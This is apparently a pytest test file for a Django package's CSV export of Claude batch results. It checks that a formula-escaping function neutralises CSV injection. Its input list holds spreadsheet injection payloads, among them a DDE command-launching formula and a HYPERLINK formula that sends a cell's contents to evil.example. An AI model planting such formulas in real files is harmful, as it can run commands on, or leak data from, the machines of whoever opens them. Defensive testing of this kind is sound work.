"""A table for people: nothing in it runs, numbers stay numbers, and a reader of CSV reads what was written."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from typing import Any

import pytest

from django_claude_batches import services
from django_claude_batches.db import keyset
from django_claude_batches.export import CsvExport
from django_claude_batches.export.cells import COLUMNS, DEFAULT_COLUMNS, escape_formula
from django_claude_batches.models import BatchResult, MessageBatch
from django_claude_batches.testing import ClaudeEmulator
from django_claude_batches.testing.emulator.replies import scripted
from django_claude_batches.testing.emulator.validation.params import Failure
from tests.harness.factories import item
from tests.harness.library.models import Book

# Columns that stand for those of a file and for the members of answers: none here.
SEVERAL = ("cells", "output")

RUN = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-1+1",
    "-5",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1",
    "\xa0\u3000=1",
    "\u200b\ufeff=1",
    '"=1"',
    ' " @x',
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
]
PLAIN = ["", "plain", "1+1", "a=b", "a - b", "'=1", "me@example.org", "1,-1", "a\nb", "a;b", "—5", "(=1)", "#=1"]


@pytest.mark.parametrize("text", RUN)
def test_what_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert str(escape_formula(text)).startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_what_would_not_stays_as_it_is(text: str) -> None:
    assert escape_formula(text) == text


@pytest.mark.parametrize("separator", [";", "\t", "\r", "\n", "\r\n"])
@pytest.mark.parametrize("text", ["=1+1", ' "=1+1', "+ item", "@x"])
def test_no_cell_runs_where_the_separator_is_no_comma(separator: str, text: str) -> None:
    """Excel takes the list separator of its country: of `a;=1+1` it makes two cells, and of a line's end two rows."""
    assert escape_formula(f"a{separator}{text}{separator}{text}") == f"a{separator}'{text}{separator}'{text}"


@pytest.mark.parametrize("separator", ["\r", "\n", "\r\n"])
@pytest.mark.parametrize("text", ["- item", "-item", " - item", "\uff0d x", "-1+1"])
def test_a_line_of_a_list_is_no_formula(separator: str, text: str) -> None:
    assert escape_formula(f"Items:{separator}{text}{separator}{text}") == f"Items:{separator}{text}{separator}{text}"
    assert escape_formula(f"{text}{separator}{text}") == f"'{text}{separator}{text}"


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_cell_inside_that_begins_with_a_minus_is_one(separator: str) -> None:
    assert escape_formula(f"a{separator}-1+1") == f"a{separator}'-1+1"


@pytest.mark.parametrize("value", [None, 0, -5, Decimal("-1.5")])
def test_numbers_stay_numbers(value: Any) -> None:
    assert escape_formula(value) is value


@pytest.mark.timeout(20)
@pytest.mark.parametrize("text", [";" * 2_000_000, " " * 2_000_000, ";" + " " * 2_000_000, '\n "' * 700_000])
def test_a_long_text_takes_no_time(text: str) -> None:
    assert len(str(escape_formula(text))) >= len(text)


def table(results: Any, **options: Any) -> list[dict[str, str]]:
    data = b"".join(CsvExport(results, **options))
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


ANSWER = 'She said "é", twice;\r\nthen\n=1+1 😀'


@pytest.fixture
def batch(db: None) -> MessageBatch:
    answers = scripted({0: ANSWER, 1: Failure("invalid_request_error", "=1+1 is no model"), 2: "-x"})
    book = Book.objects.create(title="One")
    with ClaudeEmulator(seed=1, replies=answers) as claude:
        items = [{**item(0), "target": book}, item(1), {**item(2), "custom_id": "-7"}]
        batch = services.submit(MessageBatch.objects.create_draft(items))
        services.advance(batch)
        claude.finish()
        return services.advance(batch)


@pytest.mark.database
@pytest.mark.django_db
def test_the_usual_columns(batch: MessageBatch) -> None:
    batch.results.filter(custom_id="r-0").update(cost_usd=Decimal("0.000000450"))
    first, second, third = table(batch.results.all())
    stored = {row.custom_id: row for row in batch.results.all()}
    assert list(first) == [name for name in DEFAULT_COLUMNS if name not in SEVERAL]
    assert first == {
        "custom_id": "r-0",
        "target_type": "library.book",
        "target_id": str(Book.objects.get().pk),
        "result_type": "succeeded",
        "stop_reason": "end_turn",
        "model": stored["r-0"].model,
        "text": ANSWER.replace("=1", "'=1"),
        "input_tokens": str(stored["r-0"].input_tokens),
        "output_tokens": str(stored["r-0"].output_tokens),
        "cost_usd": "0.00000045",
        "error_type": "",
        "error_message": "",
    }
    assert {name: value for name, value in second.items() if value} == {
        "custom_id": "r-1",
        "result_type": "errored",
        "cost_usd": "0",
        "error_type": "invalid_request_error",
        "error_message": "'=1+1 is no model",
    }
    assert (third["custom_id"], third["text"]) == ("'-7", "'-x")


@pytest.mark.database
@pytest.mark.django_db
def test_columns_are_chosen_and_come_in_the_order_asked_for(batch: MessageBatch) -> None:
    rows = table(batch.results.all(), columns=["message", "custom_id", "batch", "params"])
    assert [list(row) for row in rows] == [["message", "custom_id", "batch", "params"]] * 3
    assert json.loads(rows[0]["message"]) == batch.results.get(custom_id="r-0").message
    assert (rows[1]["message"], rows[1]["batch"]) == ("", str(batch.pk))
    assert [json.loads(row["params"])["max_tokens"] for row in rows] == [64] * 3
    assert list(table(batch.results.all(), columns=COLUMNS)[0]) == [name for name in COLUMNS if name not in SEVERAL]


@pytest.mark.django_db
def test_a_result_without_a_request_has_no_target(batch: MessageBatch, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(keyset, "PAGE_BYTES", 1)
    BatchResult.objects.update(request=None)
    rows = table(batch.results.all(), columns=["custom_id", "target_type", "target_id", "params"])
    assert [tuple(row.values()) for row in rows] == [("'-7", "", "", ""), ("r-0", "", "", ""), ("r-1", "", "", "")]


@pytest.mark.django_db
def test_no_results_are_a_table_without_rows() -> None:
    data = b"".join(CsvExport(BatchResult.objects.all(), columns=["custom_id", "text"]))
    assert data == b"\xef\xbb\xbfcustom_id,text\r\n"


def test_an_unknown_column_is_named() -> None:
    with pytest.raises(ValueError, match="unknown column 'txt': the columns are batch, custom_id, "):
        CsvExport(BatchResult.objects.all(), columns=["text", "txt"])
